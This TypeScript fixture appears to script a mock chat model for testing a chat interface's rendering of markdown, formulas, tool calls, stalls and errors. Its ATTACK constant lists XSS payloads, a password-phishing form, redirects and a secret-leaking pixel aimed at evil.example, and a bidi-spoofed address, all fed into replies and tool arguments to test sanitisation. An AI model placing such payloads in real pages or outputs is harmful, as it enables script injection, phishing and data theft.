// What the model says: a word of the question chooses the scene.

const call = (name: string, given: object) => ({ tool_call: { name, arguments: given } });
const says = (...steps: object[]) => ({ steps });
const text = (words: string) => ({ text: words });

/** A stall after which nothing comes, so that the state before it can be looked at. */
const STALL = "stall";

/** The attack of a model that was told by a stranger what to say. */
export const ATTACK = [
  `<script>window.attacked=1</script>`,
  `<img src=x onerror="window.attacked=1">`,
  `<svg onload="window.attacked=1"><script>window.attacked=1</script></svg>`,
  `<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
  `<style>*{display:none}</style>`,
  `<form action="https://evil.example/"><input name="password"><button>Log in</button></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.attacked=1&gt;">`,
  `[a link](javascript:window.attacked=1) [another](JaVaScRiPt:window.attacked=1) [data](data:text/html,<script>window.attacked=1</script>)`,
  `[vb](vbscript:msgbox) <a href="&#x6a;avascript:window.attacked=1">entity</a> <javascript:window.attacked=1>`,
  `![picture](https://evil.example/pixel.png?secret) ![x](x" onerror="window.attacked=1) ![d](data:image/svg+xml,<svg/onload=alert(1)>)`,
  `<a href="https://good.example/" onclick="window.attacked=1" style="position:fixed;inset:0">a good link</a>`,
  `<details open ontoggle="window.attacked=1"><summary>x</summary></details><video src=x onerror="window.attacked=1"></video>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel=stylesheet href=https://evil.example/a.css>`,
  "```html\n<script>window.attacked=1</script>\n```",
  `<div id="app" class="veil">takes the place of the page</div><input autofocus onfocus="window.attacked=1">`,
].join("\n\n");

/** An address that is read as another one, by marks that nobody sees. */
export const SPOOF = "\u202Egro.elpmaxe@ecila\u202C\u200B";

const FORMULAS = `It costs $5, and $6 more. The sum is $a^2 + b^2 = c^2$, and

$$\\int_0^1 x\\,dx = \\frac{1}{2}$$

\`\`\`rust
fn half(x: f64) -> f64 { x / 2.0 } // \u202Eno comment
\`\`\``;

const MARKDOWN = `Here is **what I found**, with *some* care:

| city | visitors | since |
|---|--:|---|
| Ahmedabad | 1,204 | 1499 |
| Patan | 3,118 | 1063 |
| Abhaneri | 870 | 800 |

1. Go down the steps.
2. Look at the [water](https://example.org/water).
   - It is \`cool\`.
   - It is deep.

\`\`\`rust
fn depth(steps: u32) -> f64 {
    f64::from(steps) * 0.18
}
\`\`\`

> A stepwell is a pond that one walks down to.

- [x] measured
- [ ] drawn`;

/** As many columns as no screen is wide. */
const COLUMNS = Array.from({ length: 14 }, (_, column) => `measurement${column}`);
const WIDE = [COLUMNS, COLUMNS.map(() => "---"), COLUMNS.map((_, column) => `${column * 1000}`)].map((cells) => `| ${cells.join(" | ")} |`).join("\n");

/** Formulas between words, and dollars that are none. */
const INLINE = "So $$\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}$$ holds, \\[x^2\\] too, and it costs $$ and more $$ to draw.";

export const SCRIPT = {
  repeat: true,
  lenient: true,
  hops: [says(text("I am here."))],
  scenes: [
    // A conversation that is to be summarised.
    { keyword: "user", hops: [says(text("A **story** was told."))] },
    { keyword: "story", hops: [{ ...says(text("I see.")), usage: { input: 15_900, output: 10 } }] },
    { keyword: "hello", hops: [says(text("Hello! How can I help?"))] },
    { keyword: "markdown", hops: [says(text(MARKDOWN))] },
    { keyword: "half", hops: [{ steps: [text("The first half of the answer"), STALL] }] },
    { keyword: "think", hops: [says({ reasoning: "The user asks something. First I look at it from all sides." }, text("I have thought about it."))] },
    { keyword: "work", hops: [says(text("I begin the work."), call("lab__work", { name: "one" })), says(text("All of it is done."))] },
    { keyword: "sum", hops: [says(call("calculator", { expression: "6 * 7" })), says(text("It is 42."))] },
    { keyword: "break", hops: [says(text("Let me write that down."), call("lab__break", {})), says(text("It could not be written."))] },
    {
      keyword: "writes",
      hops: [{ steps: [text("I prepare it."), { tool_call: { name: "lab__note", raw_arguments: '{"name": "a long list that is not whole y' } }, STALL] }],
    },
    { keyword: "send", hops: [says(text("I need your approval for that."), call("lab__send", { name: "alice@example.org" })), says(text("That is settled."))] },
    { keyword: "many", hops: [says(...["one", "two", "three"].map((name) => call("lab__work", { name })), call("lab__break", {}), call("lab__note", { name: "x" })), says(text("All five are over."))] },
    { keyword: "loop", hops: [1, 2, 3, 4].map((round) => says(text(`Round ${round}.`), call("lab__note", { name: `round ${round}` }))) },
    { keyword: "fail", hops: [{ steps: [text("This does not end "), { error_event: { message: "the model was told to fail", code: "scripted" } }] }] },
    { keyword: "spoof", hops: [says(call("lab__send", { name: SPOOF })), says(text("That is settled."))] },
    { keyword: "wide", hops: [says(text(WIDE))] },
    { keyword: "inline", hops: [says(text(INLINE))] },
    { keyword: "formula", hops: [says(text(FORMULAS))] },
    { keyword: "paint", hops: [says(call("lab__paint", {})), says(text("There it is."))] },
    {
      keyword: "attack",
      hops: [
        { ...says({ reasoning: ATTACK }, text(ATTACK), call("lab__attack", { name: ATTACK }), call(`lab__note`, { name: "<img src=x onerror=window.attacked=1>" })), pieces: 400 },
        { ...says(text(`${ATTACK}\n\nThe end of the attack.`)), pieces: 400 },
      ],
    },
    { keyword: "long", hops: [says(text(Array.from({ length: 60 }, (_, line) => `Paragraph ${line} of a long answer, with enough words in it to fill a line or two on a phone.`).join("\n\n")))] },
  ],
};
